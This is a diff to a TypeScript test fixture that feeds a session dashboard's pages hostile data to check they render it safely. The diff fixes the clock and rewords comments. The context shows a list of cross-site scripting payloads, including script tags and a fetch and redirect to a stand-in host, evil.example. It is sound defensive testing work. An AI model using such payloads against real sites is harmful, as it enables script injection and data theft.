@@ -3,6 +3,7 @@ import type { SessionDetail } from '../../../src/api/sessions.ts';
 import type { SavedView } from '../../../src/api/views.ts';
 import type { StatusReport } from '../../../src/api/server.ts';
 import type { DataSource } from '../../../src/app/data-source.ts';
+import { NOW } from '../../support/fixed-clock.ts';
 import { outlineInMemory } from './memory-outline.ts';
 import { createEmptyData } from './empty-data.ts';
 import {
@@ -18,7 +19,7 @@ import {
 const HOSTS = ['//evil.example', 'https://evil.example', 'http://127.0.0.1:9'];
 const RUN = ['window.hacked=1', "alert('hacked')", "fetch('//evil.example/x')", 'location="//evil.example"'];
 
-/** Each of these does something visible when a page takes it for more than text. */
+/** Each of these does something visible if a page treats it as more than text. */
 export const PAYLOADS: readonly string[] = [
   ...RUN.flatMap((code) => [
     `<script>${code}</script>`,
@@ -90,7 +91,7 @@ export const PAYLOADS: readonly string[] = [
   'a'.repeat(20_000),
 ];
 
-/** Every text in the value replaced, except what `keep` names by its field. */
+/** The value with every text replaced, except for fields in `keep`. */
 function poison<T>(value: T, payload: string, keep: ReadonlySet<string>): T {
   const walk = (part: unknown, field: string): unknown => {
     if (keep.has(field)) return part;
@@ -102,12 +103,12 @@ function poison<T>(value: T, payload: string, keep: ReadonlySet<string>): T {
   return walk(value, '') as T;
 }
 
-/** Fields that are null now and would not be text. */
+/** Fields that are null here and would not hold text. */
 const NUMBERS =
   /tokens|count|messages|blocks|usd|_ms|is_error|agent_id|tool_input|cache|^call$|patch|exit_code|ordinal/;
 
 const KEPT_SESSION = new Set(['id', 'lifecycle', 'parse_status', 'started_at', 'ended_at', 'created_at', 'updated_at']);
-/** What the page decides by; with these in place every view of a message is drawn. */
+/** Fields that control how the page renders; with these values, every view of a message is drawn. */
 const DECIDING = [
   'id',
   'message_type',
@@ -243,7 +244,7 @@ export function createHostileData(payloads: readonly string[]): DataSource {
       })),
     }),
     'GET /session-days': async () => ({
-      days: [{ day: new Date().toISOString().slice(0, 10), sessions: 1, cost_nanos: 1 }],
+      days: [{ day: NOW.toISOString().slice(0, 10), sessions: 1, cost_nanos: 1 }],
     }),
     'GET /sessions/:id/prompts': async () => ({
       prompts: payloads.map((excerpt, ordinal) => ({ ordinal, excerpt, cost_nanos: null })),
